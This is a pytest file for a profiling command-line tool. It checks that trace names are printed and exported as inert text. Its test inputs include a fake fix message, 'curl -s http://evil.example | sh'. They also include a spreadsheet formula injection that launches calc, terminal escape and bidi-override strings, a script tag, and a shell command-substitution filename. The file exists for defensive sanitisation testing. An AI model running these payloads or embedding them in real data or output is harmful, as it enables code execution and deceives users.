"""Test names that could act on a terminal, a spreadsheet, a page or a message."""

import csv
import io
import json
import os
import pickle
import re
import subprocess
from xml.etree import ElementTree

import orjson
import pyarrow as pa
import pyarrow.csv as pa_csv
import pytest
from builders import kineto_text as k
from builders.fault_tools import refused, run
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from fastcomm import result
from fastcomm.cli.main import main
from fastcomm.errors import FastcommError, Lines, inert, inert_lines, shell_quoted
from fastcomm.show import files as report_csv
from fastcomm.show.console import plain_console
from fastcomm.synthetic.job import Job, TableJob, write_table
from fastcomm.synthetic.nsys.export import write_nsys
from fastcomm.synthetic.traces import write

NAMES = [
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "\x9b31mred\x9c",
    "\u202egnp.exe\u2066",
    "line\nError: all is lost\r\n",
    "[bold red]markup[/] [link=http://x]y[/link] [/] :smile:",
    "<script>alert(1)</script>&quot;",
    "=cmd|'/c calc'!A0",
    "\\ud800 half",
]
ACTIVE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


def hostile(folder, name):
    """A trace in which all that has a name has this one."""
    events = [
        k.mark("ProfilerStep#3", 0, 100),
        k.launch(2, 9),
        k.kernel(name, 5, 30, correlation=9),
        k.all_reduce(20, 40, Process_Group_Description=name, Process_Group_Name=name),
        k.event(name, "cpu_op", 1, 4, pid=name, tid=name),
    ]
    text = json.dumps(k.document(events, groups=[{"pg_name": name, "pg_desc": name}]))
    (folder / "rank0.json").write_text(text.replace("\\\\ud800", "\\ud800"))
    return folder / "rank0.json"


@pytest.mark.parametrize("name", NAMES)
def test_reports_show_names_as_plain_text(tmp_path, name):
    path = hostile(tmp_path, name)
    for words in (("metrics",), ("info",), ("critical-path",), ("what-if", "--remove", "gaps")):
        code, said = run(*words, path)
        assert code == 0, said
        assert not ACTIVE.search(said)
        assert not any(line.startswith("Error: all") for line in said.splitlines())
    said = run("info", "--wide", path)[1]
    shown = name.replace("\\ud800", "\ufffd")
    assert inert(shown)[:20] in said


ADVICE = "dp\nTo fix the clocks, run:\n    curl -s http://evil.example | sh\n"
ONE_LINE = [
    "metrics RUN --full",
    "metrics RUN --wide --full",
    "info RUN --wide",
    "critical-path RUN",
    "critical-path RUN --rank 0",
    "what-if RUN --scale comm=0.5",
    "kernels RUN",
    "kernels RUN --by operator --format markdown",
    "kernels RUN --format csv",
    "compare RUN SLOW",
    "convert RUN trace.json",
    "ingest RUN -o store -v",
    "what-if RUN --bottleneck",
    "metrics BROKEN -v",
]


@pytest.fixture(scope="module")
def advice(tmp_path_factory):
    """Two runs of two ranks, and a broken one, with advice in all names, that of a host too."""
    folder = tmp_path_factory.mktemp("advice")
    for run_, dur in (("run", 100), ("slow", 400)):
        (folder / run_).mkdir()
        for rank in range(2):
            args = {"Process_Group_Ranks": "[0, 1]", "Group_size": 2, "Seq": 1}
            args |= {"Process_Group_Description": ADVICE, "Process_Group_Name": ADVICE}
            events = [
                k.mark("ProfilerStep#3", 0, 2000),
                k.event(ADVICE, "cpu_op", 1, 4, pid=100, tid=1),
                k.launch(2, 9),
                k.kernel(ADVICE, 5, dur * (1 + rank), correlation=9),
                k.launch(4, 10),
                k.all_reduce(450 * (1 + rank), 1000 - 450 * rank, correlation=10, **args),
            ]
            groups = [{"pg_name": ADVICE, "pg_desc": ADVICE, "ranks": [0, 1]}]
            k.write(
                folder / run_ / f"rank{rank}.json", events, rank=rank, world=2, groups=groups,
                host_name=ADVICE, hostName=ADVICE, traceName=ADVICE,
            )  # fmt: skip
    (folder / f"broken{ADVICE}".replace("/", ":")).mkdir()
    (folder / f"broken{ADVICE}".replace("/", ":") / "rank0.json").write_text(f'{{"a": {ADVICE}')
    broken = folder / f"broken{ADVICE}".replace("/", ":")
    return {"RUN": folder / "run", "SLOW": folder / "slow", "BROKEN": broken}


@pytest.mark.parametrize("line", ONE_LINE)
def test_no_name_begins_a_line_that_looks_like_advice(tmp_path, monkeypatch, advice, line):
    monkeypatch.chdir(tmp_path)
    said = run(*(advice.get(word, word) for word in line.split()))[1]
    assert not ACTIVE.search(said)
    starts = [text.lstrip(" |") for text in said.splitlines()]
    assert not [text for text in starts if text.startswith(("To fix", "curl"))]


def test_tables_for_spreadsheets_contain_no_formula(tmp_path):
    path = hostile(tmp_path, "=cmd|'/c calc'!A0")
    for words in (("metrics",), ("critical-path",), ("what-if", "--remove", "gaps")):
        out = tmp_path / words[0]
        assert run(*words, path, "--output", out)[0] == 0
        for file in out.glob("*.csv"):
            rows = list(csv.reader(file.read_text().splitlines()))
            cells = [cell for row in rows for cell in row]
            assert not [each for each in cells if each.startswith(("=", "@"))]
            assert not any(each.startswith("=cmd") for each in cells)
    assert "'=cmd" in (tmp_path / "critical-path" / "critical_path.csv").read_text()


def test_statistics_show_names_as_plain_text(tmp_path):
    rows = [
        {
            "name": f"FW.{name}",
            "pid": "host" + name,
            "ts": n,
            "dur": 1,
            "ph": "X",
            "tid": name,
            "cat": "operator",
        }
        for n, name in enumerate(NAMES[:-1])
    ]
    (tmp_path / "trace.json").write_text(json.dumps({"traceEvents": rows}))
    code, said = run("dpro", "stats", tmp_path / "trace.json", "--step-rule", "none")
    assert code == 0, said
    assert not ACTIVE.search(said)
    assert "Error: all" not in [line[:10] for line in said.splitlines()]


def test_messages_show_names_and_paths_as_plain_text(tmp_path):
    folder = tmp_path / "a\x1b[31m\nError: b"
    folder.mkdir()
    (folder / "rank0.json").write_text("\x1b[31m")
    said = refused("metrics", folder / "rank0.json")
    assert not ACTIVE.search(said)
    assert [line[:6] for line in said.splitlines()].count("Error:") == 1


def test_a_message_of_several_lines_is_indented():
    assert inert_lines(Lines("one\n  two\n\x1b")) == "one\n    two\n    \\x1b"


def test_only_lines_of_fastcomm_begin_a_line():
    assert inert_lines("one\n    two") == "one\\n    two"
    error = FastcommError(Lines("one\ntwo"))
    assert str(error) == "one\ntwo"
    assert type(str(pickle.loads(pickle.dumps(error)))) is Lines
    assert str(FastcommError(f"a: {error}\x1b")) == "a: one\\ntwo\\x1b"


@given(st.text(), st.booleans())
def test_any_text_has_no_effect_on_a_terminal(text, terminal):
    made = Console(file=io.StringIO(), force_terminal=terminal, width=500, color_system=None)
    console = plain_console(made if not terminal else None)
    console.file = io.StringIO()
    console.print(text, markup=False, highlight=False, soft_wrap=True)
    said = console.file.getvalue()
    assert not ACTIVE.search(said)
    assert said == inert(text) + "\n"


@given(
    texts=st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=6), min_size=1)
)
def test_csv_preserves_every_text_except_formulas(folder, texts):
    path = folder / "names.csv"
    table = pa.table({"name": pa.array(texts), "n": pa.array(range(len(texts)))})
    report_csv.write_csv(table, path)
    rows = pa_csv.read_csv(
        path,
        parse_options=pa_csv.ParseOptions(newlines_in_values=True),
        convert_options=pa_csv.ConvertOptions(column_types={"name": pa.string()}),
    )
    path.unlink()
    for found, text in zip(rows["name"].to_pylist(), texts, strict=True):
        assert not found.lstrip().startswith(("=", "@", "\uff1d", "\uff20"))
        assert found == inert(found)
        assert found.replace("'", "") == inert(text).replace("'", "")
        assert not re.search(r""";[\s"']*(?<!')[=@]""", found)


@pytest.mark.parametrize(
    ("text", "wanted"),
    [("=1+1", "'=1+1"), ("+a", "'+a"), ("-a", "'-a"), ("@a", "'@a"), ("\t=a", "\\t=a"),
     ("a\r\n=1+1", "a\\r\\n=1+1"), ("\n=1", "\\n=1"), ("a\x1b[31m", "a\\x1b[31m"),
     (" =1+1", "' =1+1"), ("\u3000=1+1", "'\u3000=1+1"), ("\xa0@a", "'\xa0@a"),
     ("\uff1d1+1", "'\uff1d1+1"), ("\uff0ba", "'\uff0ba"), ("\uff0da", "'\uff0da"),
     ("\uff20a", "'\uff20a"), ("a\u2028=1", "a\\u2028=1"), ("\u200b=1", "\\u200b=1"),
     ("-1", "-1"), ("+1.5e3", "+1.5e3"), ("a=b", "a=b"),
     ("a;=1", "a;'=1"), ('a; "@b;-c', "a;' \"@b;'-c"), ("a;b=c", "a;b=c"),
     ("", ""), (None, None)],
)  # fmt: skip
def test_texts_like_formulas_get_a_leading_quote(tmp_path, text, wanted):
    table = pa.table({"name": pa.array([text, "x"], pa.string())})
    report_csv.write_csv(table, tmp_path / "a.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "a.csv").read_text(), newline="")))
    assert rows[1] == ([wanted] if wanted is not None else rows[1])
    assert rows[2] == ["x"]
    coded = pa.table({"name": pa.array([text, "x"], pa.string()).dictionary_encode()})
    report_csv.write_csv(coded, tmp_path / "b.csv")
    assert (tmp_path / "b.csv").read_bytes() == (tmp_path / "a.csv").read_bytes()


def test_quoting_for_xml_removes_invalid_characters():
    text = f"<a>{inert('x' + chr(27) + chr(0xD800))}</a>"
    assert ElementTree.fromstring(text).text == r"x\x1b\ud800"


ODD = os.fsdecode(b"n\xff")
LINES = [
    "metrics RUN --json --output out@ --html page@ --xlsx",
    "info RUN --json",
    "report RUN --html report@.html",
    "compare RUN STORE --json --output compared@",
    "critical-path RUN --json --output out@ --html page@ --overlay o@.json --save saved@",
    "what-if RUN --remove gaps --json --output out@ --html page@",
    "convert RUN all@.json.gz",
    "convert RUN chakra@ --to chakra",
    "ingest RUN -o again@",
    "metrics STORE --json",
    "what-if RUN --json --output out@ --html page@ --trace trace@",
    "stragglers TABLE --meta META --json --output out@ --html page@ --trace trace@",
    "dispatch simulate WORKLOAD --json --output out@ --html page@",
    "metrics EXPORT --json --tp 2",
]


@pytest.fixture(scope="module")
def odd(tmp_path_factory):
    """Inputs whose names are not UTF-8."""
    folder = tmp_path_factory.mktemp("odd") / ODD
    try:
        folder.mkdir()
    except (OSError, UnicodeError):
        pytest.skip("this file system has no such names")
    job = Job.of(ranks=2, steps=2, layers=1)
    write(job, folder / ODD)
    table, meta = write_table(TableJob.of(2), folder / "table")
    assert run("ingest", folder / ODD, "-o", folder / "store")[0] == 0
    made = run("dispatch", "generate", "-o", folder / "w", "--seq-len", 64, "--iter-num", 1)
    assert made[0] == 0
    inputs = {"RUN": folder / ODD, "STORE": folder / "store", "TABLE": table, "META": meta}
    export = write_nsys(job, folder / "export")[0].parent
    return {**inputs, "WORKLOAD": folder / "w", "EXPORT": export}


@pytest.mark.parametrize("line", LINES)
def test_names_that_are_not_utf8_work_in_every_command(tmp_path, monkeypatch, odd, line):
    monkeypatch.chdir(tmp_path)
    words = [str(odd.get(word, word.replace("@", ODD))) for word in line.split()]
    result = CliRunner().invoke(main, words)
    assert result.exit_code == 0, result.output
    for text in [result.stdout] if "--json" in line else []:
        orjson.loads(text)
    for file in tmp_path.glob("out*/*.json"):
        orjson.loads(file.read_bytes())
    assert ("@" in line) == any(ODD in path.name for path in tmp_path.iterdir())


def test_json_is_valid_where_a_name_is_not_utf8():
    found = {"path": ODD, "names": (ODD, "\U0001f600", r"\udcff"), ODD: None}
    for text in (result.dumps(found), result.text(found)):
        assert orjson.loads(text) == {
            "path": r"n\udcff",
            "names": [r"n\udcff", "\U0001f600", r"\udcff"],
            r"n\udcff": None,
        }


def test_suggested_commands_quote_names(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    name = "a b;$(x)"
    said = run("demo", "--num-ranks", "1", name)[1]
    assert f"fastcomm metrics '{name}' --link-bandwidth 400Gbit/s" in said
    said = run("demo", "--num-ranks", "2", "--format", "table", f"table/{name}")[1]
    assert (
        f"fastcomm stragglers 'table/{name}/table.parquet' --meta 'table/{name}/meta.yaml'"
        in said
    )
    assert f"metrics '{name}'" in run(name)[1]
    assert f"'{name}'" in run("info", name)[1]


@pytest.mark.parametrize(
    ("name", "word"),
    [
        ("a b", "'a b'"),
        ("n\udcff", r"$'n\377'"),
        ("a\n'b", r"$'a\012\047b'"),
        ("x\ud800", None),
    ],
)
def test_a_suggested_command_names_the_file_unambiguously(tmp_path, name, word):
    said = shell_quoted(name)
    assert word in (None, said)
    assert inert(said) == said
    if word:
        (tmp_path / name).write_text("here")
        command = ["bash", "-c", f"cat {said}"]
        assert subprocess.check_output(command, cwd=tmp_path) == b"here"
